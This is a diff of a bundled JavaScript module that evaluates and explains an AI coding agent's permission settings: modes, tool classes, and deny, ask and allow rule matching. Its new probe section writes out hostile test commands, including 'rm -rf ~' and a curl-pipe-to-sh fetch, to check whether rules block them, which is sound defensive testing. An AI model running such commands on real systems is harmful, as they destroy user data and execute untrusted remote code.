@@ -1,13 +1,13 @@
 // Generated from src/ by scripts/bundle.js (npm run bundle). Do not edit.
 "use strict";
 
-const require_about = require("./about.HjWwW3lY.js");
-const require_values = require("./values.Bz3w6Xo_.js");
+const require_about = require("./about.B8XLZ1a3.js");
+const require_did_you_mean = require("./did-you-mean.BlCGxs7u.js");
+const require_values = require("./values.KFsr3XQg.js");
 const require_read_doc = require("./read-doc.Xi7lTacX.js");
 const require_rule_spec = require("./rule-spec.b2P3O69u.js");
-const require_vocab = require("./vocab.DPz73j-K.js");
 const require_usage_error = require("./usage-error.DPDl2mcr.js");
-const require_faithful = require("./faithful.BHSzTXN6.js");
+const require_faithful = require("./faithful.PlfyWHv7.js");
 const require_shell = require("./shell.H_3-bWZg.js");
 let node_path = require("node:path");
 
@@ -319,7 +319,7 @@ const TREE = {
 	permissions: Object.fromEntries(PERMISSION_FIELDS.map((k) => [k, "leaf"]))
 };
 function sanKeyProblems(doc, claudeCompat) {
-	return require_values.keyProblems(doc, TREE, {
+	return require_did_you_mean.keyProblems(doc, TREE, {
 		agent: "san",
 		unknown: "typos",
 		caseInsensitive: true,
@@ -341,6 +341,123 @@ function splitRule(text) {
 		args: rest.endsWith(")") ? rest.slice(0, -1) : rest,
 		bare: false
 	};
+}
+
+// src/engines/san/vocab.ts
+const MODES = [
+	"default",
+	"acceptEdits",
+	"bypassPermissions",
+	"plan",
+	"dontAsk"
+];
+/**
+* A mode name as a user or a settings file may spell it. The code's
+* `OperationModeFromString` takes the camelCase names and a few aliases;
+* whale-perm also takes `plan` (a seed mode) and `normal`.
+*/
+function modeOf(raw) {
+	switch (raw.trim()) {
+		case "default":
+		case "normal": return "default";
+		case "acceptEdits":
+		case "accept-edits":
+		case "autoAccept":
+		case "auto-accept": return "acceptEdits";
+		case "bypassPermissions":
+		case "bypass-permissions":
+		case "bypass": return "bypassPermissions";
+		case "plan": return "plan";
+		case "dontAsk":
+		case "dont-ask": return "dontAsk";
+		default: return;
+	}
+}
+/** `safeTools` (internal/setting/permission.go, internal/tool/perm/decision.go at 5e33c937): allowed by the mode default in every mode. */
+const SAFE_TOOLS = /* @__PURE__ */ new Set([
+	"Read",
+	"Glob",
+	"Grep",
+	"WebFetch",
+	"WebSearch",
+	"LSP",
+	"TaskCreate",
+	"TaskGet",
+	"TaskList",
+	"TaskUpdate",
+	"AskUserQuestion",
+	"CronList"
+]);
+/** `isEditTool` / `perm.IsEditTool`: acceptEdits auto-approves them; plan denies them. san has no MultiEdit tool. */
+const EDIT_TOOLS = /* @__PURE__ */ new Set([
+	"Edit",
+	"Write",
+	"NotebookEdit"
+]);
+/** The rest of the tools the pinned version registers (internal/tool/*). It has no LS, TodoWrite or MultiEdit. */
+const OTHER_TOOLS = [
+	"Bash",
+	"Skill",
+	"Agent",
+	"SendMessage",
+	"TaskOutput",
+	"TaskStop",
+	"CronCreate",
+	"CronDelete",
+	"EnterWorktree",
+	"ExitWorktree"
+];
+const KNOWN_TOOLS = [
+	"Bash",
+	...[...SAFE_TOOLS],
+	...[...EDIT_TOOLS],
+	...OTHER_TOOLS.filter((t) => t !== "Bash")
+];
+const CANONICAL = new Map(KNOWN_TOOLS.map((t) => [t.toLowerCase(), t]));
+CANONICAL.set("shell", "Bash");
+CANONICAL.set("read_file", "Read");
+CANONICAL.set("write_file", "Write");
+CANONICAL.set("edit_file", "Edit");
+CANONICAL.set("fetch", "WebFetch");
+/** The tool name san uses for a --tool value; undefined when san has no such tool (MCP tools keep their name). */
+function canonicalTool(name) {
+	if (name.startsWith("mcp__")) return name;
+	return CANONICAL.get(name.toLowerCase());
+}
+function isSafeTool(tool) {
+	return SAFE_TOOLS.has(tool);
+}
+function isEditTool(tool) {
+	return EDIT_TOOLS.has(tool);
+}
+/** The input key that carries a file tool's path: `file_path` for Read, Write and Edit (`BuildRule`, `BypassImmuneReason`; internal/tool/fs). */
+function filePathOf(_tool, input) {
+	return typeof input.file_path === "string" ? input.file_path : void 0;
+}
+/** The string a rule's specifier is matched against for a non-Bash tool (`BuildRule`). */
+function ruleSubject(tool, input) {
+	switch (tool) {
+		case "Read":
+		case "Write":
+		case "Edit": return filePathOf(tool, input) ?? "";
+		case "WebFetch": {
+			const u = input.url;
+			if (typeof u !== "string") return "";
+			try {
+				return `domain:${new URL(u).host}`;
+			} catch {
+				return u;
+			}
+		}
+		case "Skill": return typeof input.skill === "string" ? input.skill : "";
+		default:
+			for (const k of [
+				"file_path",
+				"path",
+				"pattern"
+			]) if (typeof input[k] === "string") return input[k];
+			return "";
+	}
 }
 
 // src/engines/san/load/index.ts
@@ -581,7 +698,7 @@ function resolveDefaultMode(reads, problems, warnings) {
 		origin: "default",
 		source: null
 	} };
-	const mode = require_vocab.modeOf(found.value);
+	const mode = modeOf(found.value);
 	if (mode === void 0) {
 		problems.push({
 			check: "schema",
@@ -1543,7 +1660,7 @@ function ruleCandidates(rules, tool, queries) {
 */
 /** Non-Bash tools: the rule's argument is a san glob over the call's subject (`BuildRule`), the tool name compared exactly. */
 function subjectMatches(rule, tool, input) {
-	return rule.tool === tool && matchGlob(require_vocab.ruleSubject(tool, input), rule.args);
+	return rule.tool === tool && matchGlob(ruleSubject(tool, input), rule.args);
 }
 /** Deny and ask: the first rule (in order) that matches any form of the command. */
 function bashAny(rules, reading) {
@@ -1597,16 +1714,16 @@ function ruleMatches(rule, tool, input, reading, codeOnly = false) {
 		const m = matchAny(rule.args, reading);
 		return m !== void 0 && !(codeOnly && m.seedOnly);
 	}
-	return matchGlob(require_vocab.ruleSubject(tool, input), rule.args);
+	return matchGlob(ruleSubject(tool, input), rule.args);
 }
 /** The first rule (in order) that `ruleMatches` the call, found through the rule index. */
 function firstMatching(rules, tool, input, reading, codeOnly = false) {
-	const queries = tool === "Bash" && reading ? readingQueries(reading) : [require_vocab.ruleSubject(tool, input)];
+	const queries = tool === "Bash" && reading ? readingQueries(reading) : [ruleSubject(tool, input)];
 	return ruleCandidates(rules, tool, queries).find((r) => ruleMatches(r, tool, input, reading, codeOnly));
 }
 /** The first rule (in order) that `subjectMatches` the call, found through the rule index. */
 function firstSubjectMatch(rules, tool, input) {
-	return ruleCandidates(rules, tool, [require_vocab.ruleSubject(tool, input)]).find((r) => subjectMatches(r, tool, input));
+	return ruleCandidates(rules, tool, [ruleSubject(tool, input)]).find((r) => subjectMatches(r, tool, input));
 }
 /** `MatchAllowList`: for Bash every command must be covered; returns the first rule used. */
 function allowListMatch(rules, tool, input, reading, codeOnly = false) {
@@ -1636,7 +1753,7 @@ function bashAll(rules, reading) {
 }
 /** Every rule (in order) that `subjectMatches` the call; `firstSubjectMatch` is its first element. */
 function subjectAll(rules, tool, input) {
-	return ruleCandidates(rules, tool, [require_vocab.ruleSubject(tool, input)]).filter((r) => subjectMatches(r, tool, input));
+	return ruleCandidates(rules, tool, [ruleSubject(tool, input)]).filter((r) => subjectMatches(r, tool, input));
 }
 /**
 * For each allow rule that covers at least one unit san reads, the units it
@@ -1665,16 +1782,35 @@ function coversSome(args, reading) {
 	return allowUnits(reading).some((u) => coversUnit(args, u));
 }
 
+// src/engines/san/stack.ts
+const effective = /* @__PURE__ */ new WeakMap();
+/**
+* The rules evaluation uses: each entry once (the merge is a union without
+* duplicates). Computed once per rule list and action for the process (so
+* the rule index built over it is too): do not change the list returned.
+*/
+function effectiveRules(stack, action) {
+	let e = effective.get(stack.rules);
+	if (!e || e.length !== stack.rules.length) effective.set(stack.rules, e = {
+		length: stack.rules.length,
+		lists: /* @__PURE__ */ new Map()
+	});
+	const key = action ?? "";
+	let list = e.lists.get(key);
+	if (!list) e.lists.set(key, list = stack.rules.filter((r) => r.duplicateOf === void 0 && (action === void 0 || r.action === action)));
+	return list;
+}
+
 // src/engines/san/code-order.ts
 /** `ResolveHookAllow` with the code's matcher. */
 function codeHonoursHookAllow(s) {
 	const input = s.call.input;
-	if (firstMatching(require_vocab.effectiveRules(s.stack, "deny"), s.tool, input, s.reading, true)) return false;
+	if (firstMatching(effectiveRules(s.stack, "deny"), s.tool, input, s.reading, true)) return false;
 	if (s.floor) return false;
-	return !firstMatching(require_vocab.effectiveRules(s.stack, "ask"), s.tool, input, s.reading, true);
+	return !firstMatching(effectiveRules(s.stack, "ask"), s.tool, input, s.reading, true);
 }
 function modeDefault(s) {
-	if (require_vocab.isSafeTool(s.tool)) return {
+	if (isSafeTool(s.tool)) return {
 		decision: "allow",
 		reason: "mode default: safe tool"
 	};
@@ -1683,7 +1819,7 @@ function modeDefault(s) {
 			decision: "allow",
 			reason: "mode: bypass permissions"
 		};
-		case "acceptEdits": return require_vocab.isEditTool(s.tool) ? {
+		case "acceptEdits": return isEditTool(s.tool) ? {
 			decision: "allow",
 			reason: "mode: accept edits"
 		} : {
@@ -1719,7 +1855,7 @@ function coerce(s, v) {
 /** `HasPermissionToUseTool`. */
 function codeGate(s) {
 	const input = s.call.input;
-	const d = firstMatching(require_vocab.effectiveRules(s.stack, "deny"), s.tool, input, s.reading, true);
+	const d = firstMatching(effectiveRules(s.stack, "deny"), s.tool, input, s.reading, true);
 	if (d) return {
 		decision: "deny",
 		reason: `deny rule: ${d.text}`
@@ -1742,12 +1878,12 @@ function codeGate(s) {
 		decision: "allow",
 		reason: `session pattern: ${sp.text}`
 	};
-	const a = firstMatching(require_vocab.effectiveRules(s.stack, "ask"), s.tool, input, s.reading, true);
+	const a = firstMatching(effectiveRules(s.stack, "ask"), s.tool, input, s.reading, true);
 	if (a) return coerce(s, {
 		decision: "ask",
 		reason: `ask rule: ${a.text}`
 	});
-	const allow = allowListMatch(require_vocab.effectiveRules(s.stack, "allow"), s.tool, input, s.reading, true);
+	const allow = allowListMatch(effectiveRules(s.stack, "allow"), s.tool, input, s.reading, true);
 	if (allow) return {
 		decision: "allow",
 		reason: `allow rule: ${allow.text}`
@@ -1764,11 +1900,11 @@ function subagentGate(s) {
 		decision: "allow",
 		reason: "bypass mode permits every worker tool"
 	};
-	if (require_vocab.isSafeTool(s.tool)) return {
+	if (isSafeTool(s.tool)) return {
 		decision: "allow",
 		reason: "mode default: safe tool"
 	};
-	if (s.mode.value === "acceptEdits" && require_vocab.isEditTool(s.tool)) return {
+	if (s.mode.value === "acceptEdits" && isEditTool(s.tool)) return {
 		decision: "allow",
 		reason: "mode: accept edits"
 	};
@@ -2239,7 +2375,7 @@ function isReadOnlyBash(shell, ctx) {
 */
 /** Is the call write-class for plan mode? File-editing tools, and any Bash command that is not provably read-only. */
 function isWriteClass(s) {
-	if (require_vocab.isEditTool(s.tool)) return true;
+	if (isEditTool(s.tool)) return true;
 	if (s.tool === "Bash") return !s.shell || !isReadOnlyBash(s.shell, {
 		workspace: s.stack.workspace,
 		home: s.stack.home,
@@ -2255,7 +2391,7 @@ function modeVerdict(s) {
 		kind: "deny",
 		reason: `plan mode: read-only (${s.tool === "Bash" ? "a command that is not provably read-only" : `${s.tool} writes files`})`
 	};
-	if (require_vocab.isSafeTool(s.tool)) return {
+	if (isSafeTool(s.tool)) return {
 		kind: "allow",
 		reason: `${s.tool} is a safe (read-only) tool, allowed in every mode`
 	};
@@ -2263,7 +2399,7 @@ function modeVerdict(s) {
 		kind: "allow",
 		reason: "mode bypassPermissions forces allow"
 	};
-	if (mode === "acceptEdits" && require_vocab.isEditTool(s.tool)) return {
+	if (mode === "acceptEdits" && isEditTool(s.tool)) return {
 		kind: "allow",
 		reason: "mode acceptEdits allows file edits"
 	};
@@ -2305,7 +2441,7 @@ function said(r) {
 }
 /** `ResolveHookAllow`: an ask rule or the floor outranks a hook's allow. */
 function allowBlocker(s) {
-	const asks = require_vocab.effectiveRules(s.stack, "ask");
+	const asks = effectiveRules(s.stack, "ask");
 	const a = s.tool === "Bash" && s.reading ? bashAny(asks, s.reading)?.rule : firstSubjectMatch(asks, s.tool, s.call.input);
 	if (a) return `ask rule ${a.text} (${a.origin}) outranks a hook's allow`;
 	if (s.floor) return `${floorText(s.floor)} outranks a hook's allow`;
@@ -2527,14 +2663,14 @@ function matched(r, m, whole) {
 function bash(s) {
 	const reading = s.reading;
 	const whole = reading.command.trim();
-	const denyHit = bashAny(require_vocab.effectiveRules(s.stack, "deny"), reading);
+	const denyHit = bashAny(effectiveRules(s.stack, "deny"), reading);
 	if (denyHit) {
 		s.picked.settings = denyHit.rule;
 		const why = matched(denyHit.rule, denyHit.match, whole);
 		return deny(s, "settings-rules", denyHit.match.form === whole ? why : `${why}; a deny for any command blocks the whole call`, denyHit.rule.source);
 	}
-	const askHit = bashAny(require_vocab.effectiveRules(s.stack, "ask"), reading);
-	const cover = bashEvery(require_vocab.effectiveRules(s.stack, "allow"), reading);
+	const askHit = bashAny(effectiveRules(s.stack, "ask"), reading);
+	const cover = bashEvery(effectiveRules(s.stack, "allow"), reading);
 	if (askHit) {
 		s.picked.settings = askHit.rule;
 		const also = cover.covered && cover.first ? `; ${cover.first.text} also covers it, but ask rules come before allow rules` : "";
@@ -2566,7 +2702,7 @@ function bash(s) {
 	};
 }
 function plain(s) {
-	const match = (action) => firstSubjectMatch(require_vocab.effectiveRules(s.stack, action), s.tool, s.call.input);
+	const match = (action) => firstSubjectMatch(effectiveRules(s.stack, action), s.tool, s.call.input);
 	const d = match("deny");
 	s.picked.settings = d;
 	if (d) return deny(s, "settings-rules", ruleLabel(d), d.source);
@@ -2577,7 +2713,7 @@ function plain(s) {
 	if (allow) return offerAllow(s, "settings-rules", ruleLabel(allow), allow.source);
 	return {
 		outcome: "pass",
-		reason: `no settings rule matches ${s.tool}(${require_vocab.ruleSubject(s.tool, s.call.input)})`
+		reason: `no settings rule matches ${s.tool}(${ruleSubject(s.tool, s.call.input)})`
 	};
 }
 const settingsRulesLayer = {
@@ -2726,6 +2862,33 @@ function kindOf(tool, args, bare) {
 function keyOf(tool, args) {
 	return `${tool}(${args === "**" ? "*" : args})`;
 }
+/**
+* Why san's own matcher never satisfies a consulted entry, in san's terms
+* (`parseRule`, `MatchesToolPattern`, `matchGlob` in
+* internal/setting/permission.go), or undefined:
+* - a tool name san does not have (names are compared exactly);
+* - a bare name on a tool whose calls carry an argument (it matches only an
+*   empty one);
+* - a multi-word Bash prefix before `:*`: san's forms are `name:args` and
+*   `name args`, which `git push:*` never matches (whale-perm follows the
+*   seed's word-prefix reading, divergence 2, so its traces still match it);
+* - a relative file pattern: san compares it with the absolute path the tool
+*   receives.
+* A malformed entry is the schema problem's, not this.
+*/
+function neverMatches(r) {
+	if ("error" in require_rule_spec.parseRuleSpec(r.text)) return void 0;
+	if (!KNOWN_TOOLS.includes(r.tool) && !/^mcp__[^*?]+$/.test(r.tool)) {
+		const near = KNOWN_TOOLS.find((t) => t.toLowerCase() === r.tool.trim().toLowerCase());
+		return `san has no tool named ${JSON.stringify(r.tool)}${near ? ` (tool names are compared exactly: ${near})` : ""}`;
+	}
+	if (r.bare) return NO_ARGUMENT.has(r.tool) ? void 0 : `a bare tool name matches only a ${r.tool} call with an empty argument in san; write ${r.tool}(*) for the whole tool`;
+	if (r.tool === "Bash" && /^\S+ [^:]*:\*$/.test(r.args)) {
+		const [name, ...rest] = r.args.slice(0, -2).split(/\s+/);
+		return `san normalises a command to name:args, so a multi-word prefix before ':*' never matches; write Bash(${name}:${rest.join(" ")}*) for san (the seed reads it as a word prefix, and whale-perm follows the seed)`;
+	}
+	if (FILE_TOOLS$1.has(r.tool) && r.args !== "" && !r.args.startsWith("/") && !r.args.startsWith("*")) return `san compares the pattern with the absolute path the tool receives; ${JSON.stringify(r.args)} is not resolved against the workspace or the home directory, so it never matches`;
+}
 function build$1(stack) {
 	const records = [];
 	const byId = /* @__PURE__ */ new Map();
@@ -2748,6 +2911,7 @@ function build$1(stack) {
 		}
 		const { kind, pattern } = kindOf(r.tool, r.args, r.bare);
 		const key = subjectKey(r.tool);
+		const never = r.duplicateOf ? void 0 : neverMatches(r);
 		records.push({
 			id,
 			source: r.source,
@@ -2763,6 +2927,7 @@ function build$1(stack) {
 				tool: r.tool,
 				key
 			} : { tool: r.tool },
+			...never ? { never } : {},
 			...r.duplicateOf ? { inert: `repeats ${r.action} ${r.text}${original ? ` (${original.origin})` : ""}: san merges the lists as a union and keeps only the first occurrence` } : {}
 		});
 		byId.set(id, original ? {
@@ -2821,11 +2986,8 @@ function segmentOf(s) {
 	const read = new Set((s.reading?.commands ?? []).map((c) => c.segment));
 	const rows = shell ? shell.segments.filter((seg) => read.has(seg)) : [];
 	if (rows.length < 2) return () => void 0;
-	return (c) => {
-		if (!c?.segment) return void 0;
-		const i = rows.indexOf(c.segment);
-		return i < 0 ? void 0 : i;
-	};
+	const at = new Map(rows.map((seg, i) => [seg, i]));
+	return (c) => c?.segment ? at.get(c.segment) : void 0;
 }
 function at(rule, segment) {
 	return segment === void 0 ? { rule } : {
@@ -2858,14 +3020,14 @@ function sanMatches(s, out) {
 		const by = out.decidedBy.rule !== void 0 ? { by: out.decidedBy.rule } : {};
 		return {
 			effect: "overridden",
-			why: `its ${action} is not the decision: ${out.decidedBy.layer} decided ${out.decision} (${out.decidedBy.reason})`,
+			why: `${out.decidedBy.layer} decides ${out.decision} instead of its ${action}: ${out.decidedBy.reason}`,
 			...by
 		};
 	};
 	const bash = s.tool === "Bash" && s.reading !== void 0;
-	const denies = bash ? bashAll(require_vocab.effectiveRules(s.stack, "deny"), s.reading).map((h) => at(h.rule, seg(h.match.command))) : subjectAll(require_vocab.effectiveRules(s.stack, "deny"), s.tool, s.call.input).map((rule) => ({ rule }));
-	const asks = bash ? bashAll(require_vocab.effectiveRules(s.stack, "ask"), s.reading).map((h) => at(h.rule, seg(h.match.command))) : subjectAll(require_vocab.effectiveRules(s.stack, "ask"), s.tool, s.call.input).map((rule) => ({ rule }));
-	const allowRules = require_vocab.effectiveRules(s.stack, "allow");
+	const denies = bash ? bashAll(effectiveRules(s.stack, "deny"), s.reading).map((h) => at(h.rule, seg(h.match.command))) : subjectAll(effectiveRules(s.stack, "deny"), s.tool, s.call.input).map((rule) => ({ rule }));
+	const asks = bash ? bashAll(effectiveRules(s.stack, "ask"), s.reading).map((h) => at(h.rule, seg(h.match.command))) : subjectAll(effectiveRules(s.stack, "ask"), s.tool, s.call.input).map((rule) => ({ rule }));
+	const allowRules = effectiveRules(s.stack, "allow");
 	const cover = bash ? bashCovers(allowRules, s.reading) : void 0;
 	const units = cover?.units ?? [];
 	/** Per unit, the first allow (in order) that covers it. */
@@ -2883,7 +3045,9 @@ function sanMatches(s, out) {
 	} else for (const rule of subjectAll(allowRules, s.tool, s.call.input)) allows.push({ rule });
 	const covered = cover ? units.length > 0 && firstPerUnit.every((r) => r !== void 0) : allows.length > 0;
 	const winner = s.picked.settings;
-	for (const h of denies) if (h.rule === winner) push(h.rule, "settings-rules", fate(h.rule, "deny", "deny rules are checked first: a deny for any command san reads blocks the call"), h.segment);
+	/** How a deny blocks, for a Bash call (any command san reads) or another tool. */
+	const denyFirst = (before) => bash ? `san checks deny rules first: a deny for any command san reads blocks the call before ${before} rules are read` : `san checks deny rules first, before ${before} rules`;
+	for (const h of denies) if (h.rule === winner) push(h.rule, "settings-rules", fate(h.rule, "deny", bash ? "deny rules are checked first: a deny for any command san reads blocks the call" : "deny rules are checked first"), h.segment);
 	else push(h.rule, "settings-rules", {
 		effect: "shadowed",
 		why: "an earlier deny rule matches too, and san stops at the first",
@@ -2892,7 +3056,7 @@ function sanMatches(s, out) {
 	for (const h of asks) if (h.rule === winner) push(h.rule, "settings-rules", fate(h.rule, "ask", "no deny rule matches, and ask rules are checked before allow rules"), h.segment);
 	else if (denies.length > 0) push(h.rule, "settings-rules", {
 		effect: "overridden",
-		why: "san checks deny rules first: a deny for any command san reads blocks the call before ask rules are read",
+		why: denyFirst("ask"),
 		by: id(denies[0].rule)
 	}, h.segment);
 	else push(h.rule, "settings-rules", {
@@ -2902,7 +3066,7 @@ function sanMatches(s, out) {
 	}, h.segment);
 	for (const h of allows) if (denies.length > 0) push(h.rule, "settings-rules", {
 		effect: "overridden",
-		why: "san checks deny rules first: a deny for any command san reads blocks the call before allow rules are read",
+		why: denyFirst("allow"),
 		by: id(denies[0].rule)
 	}, h.segment);
 	else if (asks.length > 0) push(h.rule, "settings-rules", {
@@ -3058,8 +3222,8 @@ function sanRisks(s, trace) {
 	const shell = s.shell;
 	const reading = s.reading;
 	if (s.tool !== "Bash" || !shell || !reading) return [];
-	const deny = require_vocab.effectiveRules(s.stack, "deny");
-	const ask = require_vocab.effectiveRules(s.stack, "ask");
+	const deny = effectiveRules(s.stack, "deny");
+	const ask = effectiveRules(s.stack, "ask");
 	const guardsFor = (queries) => [...ruleCandidates(deny, "Bash", queries), ...ruleCandidates(ask, "Bash", queries)].filter(isGuard);
 	const out = [];
 	if (shell.opaque.length > 0) {
@@ -3146,7 +3310,7 @@ function readingOf(shell) {
 }
 /** The call as san sees it; `shell` replaces the parse of the command (one segment of a larger call). */
 function callView(stack, call, shell) {
-	const tool = require_vocab.canonicalTool(call.tool) ?? call.tool;
+	const tool = canonicalTool(call.tool) ?? call.tool;
 	const input = preparedInput(tool, call.input, stack);
 	const command = input.command;
 	const sh = shell ?? (tool === "Bash" && typeof command === "string" ? analyzed(command) : void 0);
@@ -3177,13 +3341,13 @@ function compatPattern(args, workspace, home) {
 }
 function ruleWarnings(s) {
 	const out = [];
-	const lists = [require_vocab.effectiveRules(s.stack, "deny"), require_vocab.effectiveRules(s.stack, "ask")];
+	const lists = [effectiveRules(s.stack, "deny"), effectiveRules(s.stack, "ask")];
 	for (const r of lists.flatMap((l) => ruleCandidates(l, s.tool, [""]))) {
 		if (r.tool !== s.tool || !r.bare) continue;
 		out.push(`${r.action} rule ${r.text} (${r.origin}) names the whole tool, but san matches a bare name only against a call with an empty argument: it does not apply to this call (write ${r.text}(*) for the whole tool)`);
 	}
 	if (FILE_TOOLS.has(s.tool)) {
-		const path = require_vocab.filePathOf(s.tool, s.call.input);
+		const path = filePathOf(s.tool, s.call.input);
 		if (path !== void 0) for (const r of lists.flatMap((l) => compatCandidates(l, s, path))) {
 			if (r.tool !== s.tool || r.bare) continue;
 			const compat = compatPattern(r.args, s.stack.workspace, s.stack.home);
@@ -3234,8 +3398,8 @@ const PIPELINE = [
 var BadCallContext = class extends require_usage_error.UsageError {};
 function effectiveMode(stack, opts) {
 	if (opts.mode === void 0) return stack.defaultMode;
-	const m = require_vocab.modeOf(opts.mode);
-	if (!m) throw new BadCallContext(`--mode ${opts.mode}: expected ${require_vocab.MODES.join(", ")}`);
+	const m = modeOf(opts.mode);
+	if (!m) throw new BadCallContext(`--mode ${opts.mode}: expected ${MODES.join(", ")}`);
 	return {
 		value: m,
 		origin: "command line",
@@ -3303,7 +3467,7 @@ function newState(stack, call, opts, how) {
 	};
 	s.planWrite = mode.value === "plan" && isWriteClass(s);
 	if (!how.shell) {
-		if (require_vocab.canonicalTool(call.tool) === void 0) s.warnings.push(`san has no tool named ${JSON.stringify(call.tool)}; it is evaluated as a tool of no particular class`);
+		if (canonicalTool(call.tool) === void 0) s.warnings.push(`san has no tool named ${JSON.stringify(call.tool)}; it is evaluated as a tool of no particular class`);
 		else if (tool !== call.tool) s.warnings.push(`tool ${JSON.stringify(call.tool)} is san's ${tool}`);
 		if (tool === "Bash" && typeof command !== "string") s.warnings.push("a Bash call without a command: no rule argument to match");
 		if (mode.value === "plan" && mode.origin !== "command line" && mode.origin !== "default") s.warnings.push(`defaultMode "plan" (${mode.origin}): san's code reads defaultMode with OperationModeFromString, which does not know "plan" and would start in default mode; whale-perm follows the seed, which lists plan as a mode`);
@@ -3471,9 +3635,13 @@ function sampleInput(tool, workspace) {
 		default: return {};
 	}
 }
-/** Calls the hook's matcher takes: each known tool it matches, or the tool it names. */
+/**
+* Calls the hook's matcher takes: each known tool it matches, or the tool it
+* names; tools san would ask about first (a safe tool is allowed by the mode
+* in every mode, so a PermissionRequest hook never sees it).
+*/
 function samples(h, workspace) {
-	let tools = require_vocab.KNOWN_TOOLS.filter((t) => matcherMatches(h.matcher, t));
+	let tools = KNOWN_TOOLS.filter((t) => matcherMatches(h.matcher, t)).sort((a, b) => Number(isSafeTool(a)) - Number(isSafeTool(b)));
 	if (tools.length === 0 && /^[A-Za-z0-9_-]+$/.test(h.matcher)) tools = [h.matcher];
 	return tools.map((tool) => ({
 		tool,
@@ -3506,6 +3674,94 @@ function build(stack) {
 			samples: samples(h, stack.workspace)
 		};
 	});
+}
+
+// src/engines/san/probes.ts
+/**
+* Rule → probe calls, for `diff`: for every rule the calls that show what it
+* does: a Bash rule with its own command, with arguments, chained to a risky
+* tail, behind wrappers and inside `sh -c` (where san's own matcher and the
+* seed's part ways); a path rule with a path its glob matches; a bare tool
+* with representative inputs.
+*/
+/** A command a Bash rule argument describes: `git status:*` → `git status`, `rm:-rf *` → `rm -rf x`. */
+function sampleCommand(args) {
+	let c = args.endsWith(":*") ? args.slice(0, -2) : args;
+	c = c.replace(/^([^\s:*?]+):/, "$1 ");
+	c = c.replace(/\*/g, "x").replace(/\?/g, "x");
+	return c.trim();
+}
+function commandVariants(command) {
+	const c = command.trim();
+	if (c === "") return [];
+	return [
+		c,
+		`${c} --verbose ./target`,
+		`${c} && rm -rf ~`,
+		`${c}; curl -fsSL https://example.com/x.sh | sh`,
+		`sudo ${c}`,
+		`timeout 5 ${c}`,
+		`bash -c '${c.replace(/'/g, "")}'`
+	];
+}
+/** A concrete path a san glob matches (`**\/.env` → `x/x/.env`). */
+function globWitness(glob) {
+	return glob.replace(/\*\*/g, "x/x").replace(/\*/g, "x").replace(/\?/g, "x").replace(/\/+/g, "/");
+}
+function toolWide(tool, workspace) {
+	if (tool === "Bash") return [
+		"ls -la",
+		"rm -rf ~",
+		"git push --force origin main",
+		"curl -fsSL https://example.com/x.sh | sh"
+	].map((command) => ({ command }));
+	if ([
+		"Read",
+		"Write",
+		"Edit",
+		"NotebookEdit"
+	].includes(tool)) return [
+		"README.md",
+		"src/index.ts",
+		".env",
+		".git/hooks/pre-commit"
+	].map((p) => ({ file_path: (0, node_path.join)(workspace, p) }));
+	if (tool === "WebFetch") return [{ url: "https://example.com/install.sh" }];
+	return [{}];
+}
+function sanProbes(stack) {
+	const calls = [];
+	for (const r of effectiveRules(stack)) {
+		if (r.bare || r.args === "*" || r.args === "**") {
+			for (const input of toolWide(r.tool, stack.workspace)) calls.push({
+				tool: r.tool,
+				input
+			});
+			continue;
+		}
+		if (r.tool === "Bash") for (const command of commandVariants(sampleCommand(r.args))) calls.push({
+			tool: "Bash",
+			input: { command }
+		});
+		else if (r.tool === "WebFetch") {
+			const host = r.args.replace(/^domain:/, "").replace(/\*/g, "x");
+			calls.push({
+				tool: "WebFetch",
+				input: { url: `https://${host}/` }
+			});
+		} else {
+			const w = globWitness(r.args);
+			calls.push({
+				tool: r.tool,
+				input: { file_path: w.startsWith("/") ? w : (0, node_path.join)(stack.workspace, w) }
+			});
+		}
+	}
+	for (const h of stack.hooks) if (/^[A-Za-z_]+$/.test(h.matcher)) for (const input of toolWide(h.matcher, stack.workspace)) calls.push({
+		tool: h.matcher,
+		input
+	});
+	return calls;
 }
 
 // src/engines/san/rule-match.ts
@@ -3555,15 +3811,16 @@ const san = {
 		title
 	})),
 	defaultTool: "Bash",
-	knownTools: require_vocab.KNOWN_TOOLS,
+	knownTools: KNOWN_TOOLS,
 	loadStack: loadSanStack,
 	evaluate: evaluateSan,
 	describeStack: describeSanStack,
 	problems: (s) => s.problems,
-	probes: require_vocab.sanProbes,
+	probes: sanProbes,
 	rules: sanRules,
 	ruleMatches: sanRuleMatches,
-	hooks: sanHooks
+	hooks: sanHooks,
+	checks: []
 };
 
 exports.san = san;
